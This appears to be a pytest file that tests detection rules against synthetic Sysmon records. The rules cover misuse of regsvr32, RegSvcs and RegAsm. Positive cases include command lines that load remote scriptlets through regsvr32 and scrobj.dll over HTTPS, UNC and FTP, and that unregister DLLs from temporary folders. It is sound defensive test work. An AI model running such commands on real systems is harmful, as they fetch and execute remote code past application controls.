"""Built for the behaviour, not for the captures: spellings the public files do not show.

Each case is one raw Sysmon record (EventData as a collector would ship it) put through the
normaliser and the rule; a positive must fire, a near miss must not.
"""

from __future__ import annotations

from typing import Any

import pytest

from eqlwatch.engine import SourceEvent
from eqlwatch.sysmon import to_ecs
from tests.rulepack.conftest import PackRule

SYS32 = "C:\\Windows\\System32"
WOW64 = "C:\\Windows\\SysWOW64"
GUID = "{6F1A2B3C-0001-6A6B-0000-0010BEEF0001}"


def start(image: str, cmd: str, **extra: str) -> dict[str, Any]:
    data = {
        "UtcTime": "2026-11-21 08:00:00.000",
        "ProcessGuid": GUID,
        "ProcessId": "5000",
        "Image": image,
        "CommandLine": cmd,
        "CurrentDirectory": "C:\\Users\\carol\\",
        "User": "CORP\\carol",
        "IntegrityLevel": "Medium",
        "ParentProcessGuid": "{6F1A2B3C-0001-6A6B-0000-0010BEEF0000}",
        "ParentProcessId": "4000",
        "ParentImage": f"{SYS32}\\cmd.exe",
        "ParentCommandLine": "cmd.exe",
    }
    data.update(extra)
    return {"EventId": 1, **data}


def fires(item: PackRule, *records: dict[str, Any]) -> bool:
    events = [
        SourceEvent("logs-windows.sysmon_operational-default", str(i), to_ecs(r))
        for i, r in enumerate(records)
    ]
    return bool(item.query.run(events))


REGSVR32 = f"{SYS32}\\regsvr32.exe"
SCRIPTLET = [
    (True, REGSVR32, 'REGSVR32.EXE /s /n /u /i:"https://cdn.example.net/a.sct" scrobj.dll'),
    (True, REGSVR32, "regsvr32 -s -i:http://203.0.114.7/x scrobj"),
    (
        True,
        f"{WOW64}\\regsvr32.exe",
        f"{WOW64}\\regsvr32.exe /u /n /s /i:\\\\10.0.0.5\\pub\\x.sct scrobj.dll",
    ),
    (True, REGSVR32, "/i:C:\\Users\\Public\\x.sct /n /s scrobj.dll"),
    (
        True,
        "C:\\Users\\carol\\AppData\\Local\\svc.exe",
        "svc.exe /s /i:ftp://files.example.net/p.txt x.dll",
    ),
    (False, REGSVR32, "regsvr32.exe /s /n /i:/UserInstall C:\\Windows\\system32\\themeui.dll"),
    (False, REGSVR32, "regsvr32 /s /n /i:U shell32.dll"),
    (False, REGSVR32, "regsvr32 /s scrobj.dll"),
    (False, f"{SYS32}\\mshta.exe", "mshta.exe /i:https://cdn.example.net/a.sct scrobj.dll"),
]


@pytest.mark.parametrize(("want", "image", "cmd"), SCRIPTLET)
def test_scriptlet_spellings(
    want: bool, image: str, cmd: str, pack_by_key: dict[str, PackRule]
) -> None:
    extra = {"Description": "Microsoft(C) Register Server"} if "mshta" not in image else {}
    assert fires(pack_by_key["regsvr32_scriptlet_execution"], start(image, cmd, **extra)) is want


UNUSUAL = [
    (True, "regsvr32 /s \\\\fileserver\\drop\\x.dll"),
    (True, 'regsvr32.exe /s "C:\\Users\\bob\\AppData\\Local\\Temp\\x.ocx"'),
    (True, "regsvr32 /s D:\\payload.dll"),
    (True, "regsvr32 /u /s c:\\perflogs\\a.dat"),
    (True, "regsvr32 /s C:\\Windows\\Temp\\u.dll"),
    (False, "regsvr32 /s C:\\Windows\\System32\\jscript.dll"),
    (False, 'regsvr32 /s "C:\\Program Files\\Contoso\\shell.dll"'),
    (False, 'regsvr32 /s "c:\\program files (x86)\\Contoso\\shell.dll"'),
    (False, "regsvr32 /u msxml3.dll"),
    (False, "regsvr32 /s C:\\\\Windows\\\\System32\\\\x.dll"),  # doubled backslashes
]


@pytest.mark.parametrize(("want", "cmd"), UNUSUAL)
def test_unusual_path_spellings(want: bool, cmd: str, pack_by_key: dict[str, PackRule]) -> None:
    assert fires(pack_by_key["regsvr32_unusual_path"], start(REGSVR32, cmd)) is want


NET = "C:\\Windows\\Microsoft.NET"
NO_ARGS = [
    (
        True,
        f"{NET}\\Framework\\v4.0.30319\\RegSvcs.exe",
        f'"{NET}\\Framework\\v4.0.30319\\RegSvcs.exe"',
    ),
    (True, f"{NET}\\Framework64\\v2.0.50727\\RegAsm.exe", "RegAsm.exe"),
    (
        True,
        f"{NET}\\Framework\\v2.0.50727\\regsvcs.exe",
        f"{NET}\\Framework\\v2.0.50727\\regsvcs.exe  ",
    ),
    (True, "C:\\Users\\carol\\AppData\\Roaming\\host.exe", "host.exe"),  # renamed, by description
    (False, f"{NET}\\Framework\\v4.0.30319\\RegSvcs.exe", "RegSvcs.exe /?"),
    (False, f"{NET}\\Framework\\v4.0.30319\\RegAsm.exe", "Payload.dll"),
]


@pytest.mark.parametrize(("want", "image", "cmd"), NO_ARGS)
def test_no_argument_spellings(
    want: bool, image: str, cmd: str, pack_by_key: dict[str, PackRule]
) -> None:
    extra = {"Description": "Microsoft .NET Services Installation Utility"}
    assert fires(pack_by_key["regsvcs_regasm_no_arguments"], start(image, cmd, **extra)) is want


def test_regasm_from_any_framework_folder_under_a_shell(pack_by_key: dict[str, PackRule]) -> None:
    item = pack_by_key["regsvcs_regasm_suspicious_execution"]
    for folder in ("Framework\\v2.0.50727", "Framework64\\v2.0.50727", "Framework64\\v4.0.30319"):
        image = f"{NET}\\{folder}\\RegAsm.exe"
        assert fires(item, start(image, f"{image} /U evil.dll", IntegrityLevel="High"))
    installer = start(
        f"{NET}\\Framework64\\v4.0.30319\\RegAsm.exe",
        'RegAsm.exe /codebase "C:\\Program Files\\Contoso\\Interop.dll"',
        IntegrityLevel="System",
        ParentImage=f"{SYS32}\\msiexec.exe",
    )
    assert not fires(item, installer)


@pytest.mark.parametrize(
    ("start_guid", "net_guid"),
    [
        ("{6F1A2B3C-0001-6A6B-0000-0010BEEF0001}", "6f1a2b3c-0001-6a6b-0000-0010beef0001"),
        ("6F1A2B3C-0001-6A6B-0000-0010BEEF0001", "{6f1a2b3c-0001-6a6b-0000-0010beef0001}"),
    ],
)
def test_guid_spellings_still_pair_start_and_connection(
    start_guid: str, net_guid: str, pack_by_key: dict[str, PackRule]
) -> None:
    """Collectors spell the ProcessGuid differently; the connection comes 2 s *before*."""
    proc = start(REGSVR32, "regsvr32 /s vbscript.dll", ProcessGuid=start_guid)
    conn = {
        "EventId": 3,
        "UtcTime": "2026-11-21 07:59:58.000",
        "ProcessGuid": net_guid,
        "ProcessId": "5000",
        "Image": REGSVR32.lower(),
        "Protocol": "tcp",
        "Initiated": "true",
        "SourceIp": "10.0.0.8",
        "SourcePort": "50000",
        "DestinationIp": "151.101.1.1",
        "DestinationPort": "443",
    }
    assert fires(pack_by_key["registration_utility_network_connection"], proc, conn)


def _legacy_load(signature: dict[str, Any]) -> dict[str, Any]:
    """A Sysmon 7 as the legacy Winlogbeat module indexes it (shape of Elastic's golden file)."""
    return {
        "@timestamp": "2026-11-21T08:00:00.400Z",
        "event": {
            "category": ["process"],
            "type": ["change"],
            "code": "7",
            "provider": "Microsoft-Windows-Sysmon",
            "action": "Image loaded",
        },
        "process": {"entity_id": GUID, "pid": 5000, "executable": REGSVR32, "name": "regsvr32.exe"},
        "file": {"path": "C:\\Program Files\\Acme\\acme.dll", "code_signature": signature},
    }


@pytest.mark.parametrize(
    ("signature", "want"),
    [
        ({"status": "Unavailable", "valid": False}, True),
        ({"status": "Valid", "valid": True, "subject_name": "Microsoft Windows"}, False),
    ],
)
def test_unsigned_load_in_the_legacy_winlogbeat_shape(
    signature: dict[str, Any], want: bool, pack_by_key: dict[str, PackRule]
) -> None:
    proc = to_ecs(start(REGSVR32, 'regsvr32 /s "C:\\Program Files\\Acme\\acme.dll"'))
    events = [
        SourceEvent("winlogbeat-8.17.0", "1", proc),
        SourceEvent("winlogbeat-8.17.0", "2", _legacy_load(signature)),
    ]
    assert bool(pack_by_key["regsvr32_unsigned_dll_load"].query.run(events)) is want


@pytest.mark.parametrize(
    ("parent", "want"),
    [
        (
            "C:\\Program Files\\Microsoft Visual Studio\\2022\\Community\\Common7\\IDE\\devenv.exe",
            False,
        ),
        (f"{SYS32}\\cmd.exe", True),
        ("C:\\Users\\carol\\Desktop\\tool.exe", True),
    ],
)
def test_a_developer_build_is_not_suspicious_but_a_shell_is(
    parent: str, want: bool, pack_by_key: dict[str, PackRule]
) -> None:
    """Same command (assembly in a source tree, not elevated); only the parent differs."""
    image = f"{NET}\\Framework64\\v4.0.30319\\RegAsm.exe"
    record = start(
        image, f'{image} /codebase "C:\\src\\Interop\\bin\\Interop.dll"', ParentImage=parent
    )
    assert fires(pack_by_key["regsvcs_regasm_suspicious_execution"], record) is want


def test_a_copied_regasm_is_suspicious_wherever_it_runs_from(
    pack_by_key: dict[str, PackRule],
) -> None:
    """Identified by its PE description alone, running outside the Framework folders."""
    record = start(
        "C:\\Users\\Public\\ra.exe",
        "ra.exe /U C:\\Windows\\Temp\\x.dll",
        Description="Microsoft .NET Assembly Registration Utility",
        IntegrityLevel="High",
        ParentImage="C:\\Program Files\\Contoso\\agent.exe",
    )
    assert fires(pack_by_key["regsvcs_regasm_suspicious_execution"], record)
    assert not fires(pack_by_key["regsvr32_renamed"], record)


def _connection(destination: str) -> dict[str, Any]:
    return {
        "EventId": 3,
        "UtcTime": "2026-11-21 08:00:01.000",
        "ProcessGuid": GUID,
        "ProcessId": "5000",
        "Image": REGSVR32,
        "Protocol": "tcp",
        "Initiated": "true",
        "SourceIp": "10.0.0.8",
        "SourcePort": "50000",
        "DestinationIp": destination,
        "DestinationPort": "443",
    }


@pytest.mark.parametrize(("integrity", "want"), [("Medium", True), ("System", False)])
def test_installer_exclusion_reads_the_integrity_level_not_sysmons_sid(
    integrity: str, want: bool, pack_by_key: dict[str, PackRule]
) -> None:
    """A Sysmon record's user.id is the Sysmon service's SID (LocalSystem, S-1-5-18) whoever
    ran the process: a user's regsvr32 under an installed program still fires; only a
    LocalSystem one (integrity System) is taken for software installation."""
    item = pack_by_key["registration_utility_network_connection"]
    parent = "C:\\Program Files (x86)\\Contoso\\Updater\\update.exe"
    proc = start(REGSVR32, "regsvr32 /s contoso.dll", ParentImage=parent, IntegrityLevel=integrity)
    events = []
    for i, record in enumerate((proc, _connection("151.101.1.1"))):
        doc = to_ecs(record)
        doc.setdefault("user", {})["id"] = "S-1-5-18"
        events.append(SourceEvent("logs-windows.sysmon_operational-default", str(i), doc))
    assert bool(item.query.run(events)) is want


@pytest.mark.parametrize(
    ("destination", "want"),
    [("151.101.1.1", True), ("2606:4700::6810:84e5", True), ("100.64.0.9", False), ("::1", False)],
)
def test_public_means_what_the_ip_table_says(
    destination: str, want: bool, pack_by_key: dict[str, PackRule]
) -> None:
    item = pack_by_key["registration_utility_network_connection"]
    proc = start(REGSVR32, "regsvr32 /s /i:https://cdn.example.net/a.sct scrobj.dll")
    assert fires(item, proc, _connection(destination)) is want
